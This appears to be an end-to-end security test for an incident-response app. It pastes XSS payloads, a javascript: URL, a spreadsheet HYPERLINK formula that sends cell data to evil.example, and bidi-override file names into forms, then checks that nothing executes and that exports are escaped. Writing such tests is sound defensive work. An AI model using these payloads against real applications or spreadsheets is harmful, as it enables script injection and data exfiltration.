// Journey (issue 11): a careless or hostile user types what attacks the reader into every field
// of a client, a plan contact, an asset, an incident, a timeline entry and an exercise finding:
// script payloads, bidirectional overrides, 5,000-character strings and nothing at all. Nothing
// runs (a sentinel the payloads would set stays undefined), text shows literally, refused input
// gets a message under its field, and the PDF and CSVs the CLI builds from the same workspace
// are safe: the text is literal in the PDF, and no CSV cell starts a spreadsheet formula.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdtempSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { after, test } from "node:test";
import { byTestId, cliBin, click, launch, newDataDir, shot, textOf, waitForText } from "./harness.mjs";

const IMG = `<img src=x onerror="window.__pwned='img'">`;
const SCRIPT = `<script>window.__pwned='script'</script>`;
const JS_URL = `javascript:window.__pwned='url'`;
const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"open")`;
const RLO = "\u202E";
const BIDI_NAME = `Invoice${RLO}fdp.exe`;
const LONG = "W".repeat(5000);
const HOSTILE_NAME = `Kestrel ${IMG} Dental`;

const dataDir = newDataDir();
let app;
after(async () => {
  await app?.quit();
});

/** The input or textarea a visible label names, inside `scope`. */
async function field(browser, scope, label) {
  const l = await scope.$(`.//label[normalize-space(text())="${label}"]`);
  await l.waitForExist({ timeout: 10000 });
  const id = await l.getAttribute("for");
  return browser.$(`[id="${id}"]`);
}

/** Sets a React-controlled input's value as a paste would: at once, with one input event. */
async function paste(browser, el, value) {
  await el.waitForExist({ timeout: 10000 });
  await browser.execute(
    (node, v) => {
      const proto =
        node.tagName === "TEXTAREA" ? HTMLTextAreaElement.prototype : HTMLInputElement.prototype;
      Object.getOwnPropertyDescriptor(proto, "value").set.call(node, v);
      node.dispatchEvent(new Event("input", { bubbles: true }));
    },
    el,
    value,
  );
}

async function fill(browser, scope, values) {
  for (const [label, value] of Object.entries(values))
    await paste(browser, await field(browser, scope, label), value);
}

/** The message shown under the field `label` names, once it matches `pattern`. */
async function fieldError(browser, scope, label, pattern, what) {
  const input = await field(browser, scope, label);
  let last = "";
  await browser
    .waitUntil(
      async () => {
        const id = await input.getAttribute("id");
        const err = await browser.$(`[id="${id}-error"]`);
        last = (await err.isExisting()) ? await textOf(err) : "";
        return pattern.test(last);
      },
      { timeout: 15000 },
    )
    .catch(async () => {
      await shot(browser, `failed-bad-input-${what.replace(/\W+/g, "-")}`);
      assert.fail(`${what}: the field ${label} says "${last}"`);
    });
  return last;
}

/** Nothing a payload would do has happened: no sentinel, no live image or script from text. */
async function nothingRan(browser, where) {
  const state = await browser.execute(() => ({
    pwned: window.__pwned ?? null,
    img: document.querySelectorAll('img[src="x"]').length,
    script: [...document.scripts].filter((s) => s.text.includes("__pwned")).length,
    jsLinks: [...document.querySelectorAll("a[href]")].filter((a) =>
      a.getAttribute("href").toLowerCase().startsWith("javascript:"),
    ).length,
  }));
  assert.deepEqual(state, { pwned: null, img: 0, script: 0, jsLinks: 0 }, `after ${where}`);
}

async function bodyText(browser) {
  return browser.execute(() => document.body.textContent ?? "");
}

// Written against the UI's current test ids and labels but not yet run through the app (the
// session ran out of machine time): opt in with CORDON_E2E_BAD_INPUT=1 until it has passed once.
const notYetRun =
  process.env.CORDON_E2E_BAD_INPUT !== "1" &&
  "not yet run against the app; set CORDON_E2E_BAD_INPUT=1 to run it";

test("hostile text in every field: nothing runs, text is literal, refusals name the field", { skip: notYetRun }, async () => {
  app = await launch(dataDir, { CORDON_DEMO: "1" });
  const { browser } = app;
  await click(browser, "create-workspace-keychain");
  await waitForText(browser, '[data-testid="client-row"]', /Brightwater/, "demo clients");

  // --- Client -----------------------------------------------------------------------------
  await click(browser, "new-client");
  const form = await byTestId(browser, "client-form");
  await click(browser, "client-save");
  await fieldError(browser, form, "Name", /needs a name/, "empty client name");
  await fill(browser, form, { Name: BIDI_NAME });
  await click(browser, "client-save");
  await fieldError(browser, form, "Name", /U\+202E/, "bidi client name");
  await fill(browser, form, { Name: LONG });
  await click(browser, "client-save");
  await fieldError(browser, form, "Name", /longer than 200/, "long client name");
  await shot(browser, "bad-input-client-refused");

  const contact = await browser.$("//button[contains(., 'Add contact')]");
  await contact.click();
  const row = await byTestId(browser, "contact-row");
  await fill(browser, row, { Name: `${RLO}Mallory`, Role: SCRIPT, Email: "a@b", Phone: LONG });
  await fill(browser, form, {
    Name: HOSTILE_NAME,
    "Incident terms": `${IMG} ${SCRIPT} ${JS_URL} ${FORMULA} ${RLO}reversed ${LONG}`,
    Insurer: SCRIPT,
    "Policy number": JS_URL,
    "Claims contact": IMG,
  });
  await click(browser, "client-save");
  await fieldError(browser, row, "Name", /U\+202E/, "bidi contact name");
  await fieldError(browser, row, "Email", /not an email address/, "bad contact email");
  await nothingRan(browser, "a refused client");
  await fill(browser, row, { Name: `Mallory ${IMG}`, Email: "mallory@example.com" });
  await click(browser, "client-save");
  const hostileRow = `//*[@data-testid="client-row"][contains(., "onerror")]`;
  await browser.$(hostileRow).waitForExist({ timeout: 20000 });
  assert.ok((await textOf(await browser.$(hostileRow))).includes(HOSTILE_NAME));
  await nothingRan(browser, "the client list");
  await shot(browser, "bad-input-client-list");

  await browser.$(`${hostileRow}/td[1]`).click();
  await (await byTestId(browser, "client-page")).waitForDisplayed({ timeout: 20000 });
  const page = await bodyText(browser);
  assert.ok(page.includes(HOSTILE_NAME), "the client's name is shown literally");
  await nothingRan(browser, "the client page");
  await shot(browser, "bad-input-client-page");

  // --- Asset --------------------------------------------------------------------------------
  await click(browser, "client-tab-assets");
  await click(browser, "new-asset");
  const asset = await byTestId(browser, "asset-form");
  await click(browser, "asset-save");
  await fieldError(browser, asset, "Name", /needs a name/, "empty asset name");
  await fill(browser, asset, { Name: BIDI_NAME });
  await click(browser, "asset-save");
  await fieldError(browser, asset, "Name", /U\+202E/, "bidi asset name");
  await fill(browser, asset, { Name: LONG, Owner: `${RLO}root` });
  await click(browser, "asset-save");
  await fieldError(browser, asset, "Name", /longer than 200/, "long asset name");
  await fieldError(browser, asset, "Owner", /U\+202E/, "bidi asset owner");
  await fill(browser, asset, { Name: FORMULA, Owner: SCRIPT, Location: IMG, Rationale: LONG });
  await click(browser, "asset-save");
  await waitForText(browser, '[data-testid="asset-row"]', /HYPERLINK/, "hostile asset listed");
  await nothingRan(browser, "the asset list");
  await shot(browser, "bad-input-assets");

  // --- Incident and its timeline --------------------------------------------------------------
  await click(browser, "client-tab-incidents");
  await click(browser, "new-incident");
  const drawer = await byTestId(browser, "new-incident-drawer");
  await click(browser, "new-incident-type");
  const option = await browser.$(`//*[@role="option"]`);
  await option.waitForClickable({ timeout: 10000 });
  await option.click();
  await paste(browser, await byTestId(browser, "new-incident-title"), BIDI_NAME);
  await click(browser, "new-incident-submit");
  await fieldError(browser, drawer, "Title", /U\+202E/, "bidi incident title");
  await paste(browser, await byTestId(browser, "new-incident-title"), LONG);
  await click(browser, "new-incident-submit");
  await fieldError(browser, drawer, "Title", /longer than 200/, "long incident title");
  await paste(browser, await byTestId(browser, "new-incident-title"), `Phish ${IMG}`);
  await paste(browser, await byTestId(browser, "new-incident-description"), `${SCRIPT} ${LONG}`);
  await paste(browser, await byTestId(browser, "new-incident-reported-by"), JS_URL);
  await click(browser, "new-incident-submit");
  await (await byTestId(browser, "incident-screen")).waitForDisplayed({ timeout: 20000 });
  await waitForText(browser, '[data-testid="incident-title"]', /Phish <img src=x/, "title literal");
  await nothingRan(browser, "the incident screen");

  const box = await byTestId(browser, "quick-add");
  const entries = [
    IMG,
    SCRIPT,
    `see ${JS_URL} and https://login-micros0ft.net/owa`,
    FORMULA,
    `@SUM(A1:A9) ${RLO}gnitset`,
    LONG,
  ];
  for (const line of entries) {
    await paste(browser, box, line);
    await browser.keys("Enter");
    await browser.waitUntil(async () => (await box.getValue()) === "", { timeout: 15000 });
  }
  const timeline = await waitForText(
    browser,
    '[data-testid="timeline-entry"]',
    /WWWWWWWWWW/,
    "hostile entries",
  );
  for (const line of entries.slice(0, 5))
    assert.ok(timeline.includes(line), `the entry ${JSON.stringify(line.slice(0, 30))} is literal`);
  await nothingRan(browser, "the timeline");
  await shot(browser, "bad-input-timeline");
  const incidentId = await browser.execute(() => location.hash.split("/").pop());

  // --- Exercise finding -----------------------------------------------------------------------
  await browser.execute(() => window.history.back());
  await browser.$(`//*[@data-testid="client-row"]`).waitForExist({ timeout: 20000 }).catch(() => {});
  const brightwater = await browser.$(`//*[@data-testid="client-row"][contains(., "Brightwater")]/td[1]`);
  if (await brightwater.isExisting()) await brightwater.click();
  await click(browser, "client-tab-exercises");
  await click(browser, "new-exercise");
  await click(browser, "scenario-ransomware");
  await click(browser, "create-exercise");
  await (await byTestId(browser, "exercise-console")).waitForDisplayed({ timeout: 20000 });
  await click(browser, "finding-add");
  await waitForText(browser, '[data-testid="evaluation"]', /describe what the exercise showed/, "empty finding");
  await paste(browser, await byTestId(browser, "finding-issue"), `${IMG} ${LONG}`);
  await paste(browser, await byTestId(browser, "finding-corrective-action"), SCRIPT);
  await paste(browser, await byTestId(browser, "finding-owner"), `${RLO}Mallory`);
  await paste(browser, await byTestId(browser, "finding-due"), "2027-01-31");
  await (await byTestId(browser, "finding-plan-section")).selectByAttribute("value", "contacts");
  await click(browser, "finding-add");
  await waitForText(browser, '[data-testid="evaluation"]', /U\+202E/, "bidi finding owner");
  await paste(browser, await byTestId(browser, "finding-owner"), JS_URL);
  await click(browser, "finding-add");
  await waitForText(browser, '[data-testid="findings"]', /<img src=x onerror/, "finding literal");
  await nothingRan(browser, "the findings");
  await shot(browser, "bad-input-finding");

  // --- What the CLI builds from the same workspace ---------------------------------------------
  const env = { ...process.env, CORDON_DATA_DIR: dataDir };
  const out = mkdtempSync(path.join(os.tmpdir(), "cordon-bad-input-"));
  const pdf = path.join(out, "internal.pdf");
  execFileSync(cliBin, ["report", "incident", incidentId, "--audience", "internal", "-o", pdf], { env });
  const text = execFileSync("pdftotext", ["-enc", "UTF-8", pdf, "-"]).toString();
  const flat = text.split(/\s+/).join(" ");
  assert.ok(flat.includes("Phish <img src=x"), "the title is printed as text");
  assert.ok(flat.includes("<script>window.__pwned='script'</script>"), "script text is literal");
  assert.ok(flat.includes("login-micros0ft[.]net"), "the indicator appendix is defanged");
  execFileSync("pdftoppm", ["-r", "60", "-png", "-f", "1", "-l", "3", pdf, path.join(out, "page")]);

  const cells = (csv) => {
    // RFC 4180: split records and cells, honouring quotes.
    const rows = [];
    let row = [];
    let cell = "";
    let quoted = false;
    for (let i = 0; i < csv.length; i += 1) {
      const c = csv[i];
      if (quoted) {
        if (c === '"' && csv[i + 1] === '"') {
          cell += '"';
          i += 1;
        } else if (c === '"') quoted = false;
        else cell += c;
      } else if (c === '"') quoted = true;
      else if (c === ",") {
        row.push(cell);
        cell = "";
      } else if (c === "\n") {
        row.push(cell.replace(/\r$/, ""));
        rows.push(row);
        row = [];
        cell = "";
      } else cell += c;
    }
    return rows.flat();
  };
  const timelineCsv = execFileSync(cliBin, ["incidents", "timeline", "export", incidentId], { env }).toString();
  const clients = JSON.parse(execFileSync(cliBin, ["clients", "list", "--json", "--query", "Kestrel"], { env }));
  const assetsCsv = execFileSync(cliBin, ["assets", "export", "--client", clients[0].id], { env }).toString();
  for (const [what, csv] of [
    ["timeline", timelineCsv],
    ["assets", assetsCsv],
  ]) {
    const all = cells(csv);
    const live = all.filter((c) => /^[=+\-@\t\r]/.test(c));
    assert.deepEqual(live, [], `${what} CSV cells a spreadsheet would run`);
    assert.ok(all.includes(`'${FORMULA}`), `${what} CSV keeps the formula as quoted text`);
  }
});
